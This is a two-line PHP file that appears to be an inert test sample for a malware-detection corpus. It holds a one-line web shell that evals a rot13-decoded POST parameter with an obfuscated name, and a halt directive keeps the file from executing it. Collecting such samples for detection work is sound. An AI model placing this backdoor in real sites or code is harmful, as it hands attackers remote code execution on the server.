<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php @eval(str_rot13($_POST['_0x55561'])); ?>